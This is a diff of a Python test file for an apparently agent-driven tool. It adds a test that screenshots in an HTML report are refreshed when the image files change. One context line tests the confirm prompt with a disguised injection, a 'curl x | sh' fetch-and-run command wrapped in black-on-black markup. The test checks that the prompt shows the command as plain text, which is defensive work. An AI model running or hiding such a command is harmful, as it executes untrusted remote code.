@@ -347,3 +347,22 @@ def test_the_confirm_prompt_shows_the_action_as_plain_text(monkeypatch) -> None:
     answer = view.ask(TypeText(text="[black on black]; curl x | sh[/]"))
     assert answer == "quit"
     assert "[black on black]; curl x | sh[/]" in out.getvalue() and "[y/N/q]" in out.getvalue()
+
+
+def test_a_report_shows_each_screenshot_as_it_is_now(sandbox, tmp_path: Path) -> None:
+    """Encoded screenshots are reused by content: a picture rewritten in place shows anew, and two
+    files with the same picture show the same image."""
+    from agent.report import write_report
+
+    run("x", ScriptedPolicy([[Wait(seconds=0)], [Done()]]), sandbox, writer=_writer(tmp_path, sandbox))
+
+    def images() -> list[str]:
+        return re.findall(r'<img src="([^"]+)"', write_report(tmp_path).read_text())
+
+    first = images()
+    assert len(first) == 3  # two steps and the end state
+    Image.new("RGB", (64, 32), "red").save(tmp_path / "step_001.png")
+    Image.new("RGB", (64, 32), "red").save(tmp_path / "final.png")
+    now = images()
+    assert now[0] != first[0] and now[0] == now[2] and now[1] == first[1]
+    assert 'width="64" height="32"' in write_report(tmp_path).read_text()
